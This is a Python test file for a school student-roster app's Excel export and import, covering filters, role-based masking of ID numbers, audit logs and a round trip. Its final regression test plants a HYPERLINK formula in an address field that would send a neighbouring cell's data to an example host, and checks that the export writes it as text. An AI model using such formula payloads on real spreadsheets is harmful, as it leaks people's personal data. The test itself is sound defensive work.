"""Roster export (GET /students/export.xlsx), the import template, and the export → import
round trip."""
from __future__ import annotations

import re
from io import BytesIO

import pytest
from openpyxl import load_workbook

import access
from blueprints.students import roster
from extensions import db
from models import AuditLog, Student
from tests import factories as f

HEADERS = [c[0] for c in roster.COLUMNS]


def sheet(response):
    """The first worksheet of a downloaded workbook as a list of {header: value} rows."""
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    ws = load_workbook(BytesIO(response.data)).worksheets[0]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0] == HEADERS
    return [dict(zip(HEADERS, r)) for r in rows[1:]]


def names(response) -> list[str]:
    return sorted(r["姓名"] for r in sheet(response))


def masked(number: str) -> str:
    return number[:4] + "*" * 10 + number[-4:]


def import_file(client, school_id, data: bytes):
    return client.post("/students/import", content_type="multipart/form-data",
                       data={"school_id": school_id, "file": (BytesIO(data), "名册.xlsx")})


def export_audits():
    db.session.expire_all()
    return db.session.scalars(db.select(AuditLog).filter_by(action="export")
                              .order_by(AuditLog.id)).all()


def test_export_has_the_roster_columns_and_values(world, login):
    response = login("officer").get("/students/export.xlsx")
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert ".xlsx" in response.headers["Content-Disposition"]
    assert load_workbook(BytesIO(response.data)).sheetnames == ["学生名册"]
    rows = {r["姓名"]: r for r in sheet(response)}
    assert sorted(rows) == ["张三", "李四", "王五"]  # township A only, no 赵六
    zhang = rows["张三"]
    assert zhang == {
        "学校": "甲一村小", "年级": "三年级", "班级": "1班", "姓名": "张三", "性别": "男",
        "出生日期": "2016-05-17", "民族": "汉族", "身份证件类型": "居民身份证",
        "身份证号": world.s_a1.id_number,
        "学籍号": None, "学籍状态": "在读", "安置方式": "在校就读", "重点群体": None,
        "寄宿": None, "户籍村": None, "组": None, "家庭住址": None, "监护人": "张大山",
        "关系": "父亲", "联系电话": "13800001111", "外出务工": None,
    }  # (openpyxl reads back empty strings as empty cells)
    assert rows["李四"]["性别"] == "女" and rows["李四"]["年级"] == "四年级"


def test_export_follows_the_filters(world, login):
    f.student(world.a1, world.class_a1, name="辍学生", status="dropout")
    f.student(world.a1, world.class_a1, name="留守生", left_behind=True)
    db.session.commit()
    client = login("officer")
    assert names(client.get("/students/export.xlsx")) == ["张三", "李四", "王五", "留守生"]
    assert names(client.get("/students/export.xlsx?q=张三")) == ["张三"]
    assert names(client.get("/students/export.xlsx?q=zs")) == ["张三"]
    assert names(client.get(f"/students/export.xlsx?school={world.a2.id}")) == ["王五"]
    assert names(client.get("/students/export.xlsx?grade=4")) == ["李四"]
    assert names(client.get("/students/export.xlsx?flag=left_behind")) == ["留守生"]
    assert names(client.get("/students/export.xlsx?status=dropout")) == ["辍学生"]
    everyone = sheet(client.get(f"/students/export.xlsx?status=all&school={world.a1.id}"))
    assert sorted(r["姓名"] for r in everyone) == ["张三", "李四", "留守生", "辍学生"]
    assert {r["姓名"]: r["学籍状态"] for r in everyone}["辍学生"] == "辍学"
    assert names(client.get(f"/students/export.xlsx?school={world.b1.id}")) == []  # other township


def test_each_user_exports_only_what_they_may_see(world, login):
    assert names(login("head").get("/students/export.xlsx")) == ["张三", "李四"]
    assert names(login("head").get(f"/students/export.xlsx?school={world.b1.id}")) == []
    assert names(login("head_b").get("/students/export.xlsx")) == ["赵六"]
    assert names(login("teacher").get("/students/export.xlsx")) == ["张三"]  # own class only
    assert names(login("county").get("/students/export.xlsx")) == ["张三", "李四", "王五", "赵六"]


@pytest.mark.parametrize("username, role", [
    ("officer", "central_officer"), ("head", "village_head"), ("leader", "central_leader"),
    ("teacher", "teacher"), ("inspector", "inspector"), ("county", "inspector"),
])
def test_full_ids_only_for_the_roles_that_submit_them(world, login, username, role):
    full = role in access.FULL_ID_ROLES
    assert full == (username in ("officer", "head"))
    rows = sheet(login(username).get("/students/export.xlsx"))
    assert rows
    numbers = {s.id_number for s in (world.s_a1, world.s_a1_other, world.s_a2, world.s_b1)}
    for row in rows:
        shown = row["身份证号"]
        if full:
            assert shown in numbers
        else:
            assert re.fullmatch(r"\d{4}\*{10}[\dX]{4}", shown)
            assert any(shown == masked(n) for n in numbers)
    cells = " ".join(str(v) for row in rows for v in row.values())
    assert any(n in cells for n in numbers) == full  # no full number anywhere when masked


def test_every_export_is_audited_with_its_row_count(world, login):
    officer = login("officer")
    officer.get("/students/export.xlsx")
    officer.get("/students/export.xlsx?q=张三")
    login("leader").get(f"/students/export.xlsx?school={world.a2.id}")
    first, second, third = export_audits()
    assert (first.username, first.table_name, first.school_id) == \
        ("officer", "students", world.central_a.id)
    assert first.after == {"rows": 3, "filters": {}, "full_ids": True}
    assert "导出学生名册 3 人（完整身份证号）" == first.summary
    assert second.after == {"rows": 1, "filters": {"q": "张三"}, "full_ids": True}
    assert third.username == "leader"
    assert third.after == {"rows": 1, "filters": {"school": world.a2.id}, "full_ids": False}
    assert third.summary == "导出学生名册 1 人（隐去身份证号）"


def test_anonymous_export_is_sent_to_sign_in(world, app):
    response = app.test_client().get("/students/export.xlsx")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert export_audits() == []


# The import template -------------------------------------------------------------------------

def test_template_has_the_columns_and_instructions(world, login):
    response = login("head").get("/students/import/template.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    wb = load_workbook(BytesIO(response.data))
    assert wb.sheetnames == ["学生名册", "填写说明"]
    assert [c.value for c in wb["学生名册"][1]] == roster.TEMPLATE_COLUMNS
    assert wb["学生名册"]["C2"].number_format == "@"  # ID column is text, not a number
    notes = [row[0] for row in wb["填写说明"].iter_rows(values_only=True)]
    assert notes[0] == "每行一名学生，第一行是列名，请不要改动列名。"
    assert any("有任何一行出错，整批都不会导入" in line for line in notes)


@pytest.mark.parametrize("user", ["teacher", "leader", "inspector"])
def test_template_is_for_register_editors(world, login, user):
    assert login(user).get("/students/import/template.xlsx").status_code == 403


def test_filled_in_template_imports(world, login):
    head = login("head")
    wb = load_workbook(BytesIO(head.get("/students/import/template.xlsx").data))
    number = f.id_number()
    values = {"姓名": "田小禾", "身份证号": number, "年级": "二年级", "班级": "1", "安置方式": "随班就读",
              "重点群体": "残疾", "户籍村": "甲一村", "组": "三组", "监护人": "田大力", "关系": "父亲",
              "联系电话": "13700002222", "外出务工": "是"}
    for col, header in enumerate(roster.TEMPLATE_COLUMNS, start=1):
        wb["学生名册"].cell(row=2, column=col, value=values.get(header))
    out = BytesIO()
    wb.save(out)
    preview = import_file(head, world.a1.id, out.getvalue())
    assert "共 1 名学生，全部检查通过" in preview.text
    assert "将新建班级：二年级1班" in preview.text
    token = re.search(r'name="token" value="([0-9a-f]+)"', preview.text).group(1)
    assert head.post("/students/import/commit",
                     data={"token": token, "school_id": world.a1.id}).status_code == 303
    student = db.session.scalar(db.select(Student).filter_by(id_number=number))
    assert (student.name, student.grade, student.class_group.name, student.placement) == \
        ("田小禾", 2, "1班", "inclusive")
    assert student.disabled and student.guardians[0].works_away


# Export → import round trip ------------------------------------------------------------------

def _snapshot(students):
    return sorted((s.name, s.id_number, s.sex, s.birth_date, s.grade, s.class_id, s.student_no,
                   s.ethnicity, s.placement, s.boarder, s.village, s.village_group, s.address,
                   tuple(s.focus_labels), s.guardians[0].name, s.guardians[0].relation,
                   s.guardians[0].phone, s.guardians[0].works_away) for s in students)


def test_export_then_reimport_gives_back_the_same_students(world, login):
    """Export a school with full IDs, delete its students (a mistaken clean-up), import the file
    back: the same children in the same classes, with their focus groups and first guardian."""
    zhang, li = world.s_a1, world.s_a1_other
    zhang.student_no, zhang.village, zhang.village_group = "G" + zhang.id_number, "甲一村", "二组"
    zhang.orphan, zhang.poverty, zhang.boarder, zhang.placement = True, True, True, "inclusive"
    zhang.address = "甲一村二组 12 号"
    zhang.guardians[0].works_away = True
    li.ethnicity, li.left_behind = "苗族", True
    li.guardians[0].relation = "祖母"
    db.session.commit()
    before = _snapshot([zhang, li])

    officer = login("officer")
    exported = officer.get(f"/students/export.xlsx?school={world.a1.id}")
    assert sorted(r["身份证号"] for r in sheet(exported)) == sorted(s[1] for s in before)
    for student in (zhang, li):
        db.session.delete(student)
    db.session.commit()

    preview = import_file(officer, world.a1.id, exported.data)
    assert "共 2 名学生，全部检查通过" in preview.text
    assert "将新建班级" not in preview.text  # the classes are still there
    token = re.search(r'name="token" value="([0-9a-f]+)"', preview.text).group(1)
    assert officer.post("/students/import/commit",
                        data={"token": token, "school_id": world.a1.id}).status_code == 303
    db.session.expire_all()
    again = db.session.scalars(db.select(Student).where(Student.school_id == world.a1.id)).all()
    assert _snapshot(again) == before


def test_masked_export_does_not_import(world, login):
    """A leader's export hides the IDs, so it cannot be used to register anyone."""
    exported = login("leader").get(f"/students/export.xlsx?school={world.a1.id}")
    preview = import_file(login("officer"), world.a2.id, exported.data)
    assert "其中 <b>2 行有问题</b>" in preview.text
    assert "身份证号前 17 位应为数字" in preview.text
    assert db.session.scalar(db.select(db.func.count()).select_from(Student)) == 4


def test_text_that_looks_like_a_formula_is_exported_as_text(world, login):
    """Regression: text starting with '=' was written as an Excel formula (formula injection,
    and the value was lost on re-import)."""
    world.s_a1.address = '=HYPERLINK("http://example.com/?"&H2,"点击查看")'
    db.session.commit()
    response = login("officer").get("/students/export.xlsx?q=张三")
    ws = load_workbook(BytesIO(response.data)).worksheets[0]
    cell = ws.cell(row=2, column=HEADERS.index("家庭住址") + 1)
    assert cell.data_type == "s"
    assert cell.value == world.s_a1.address
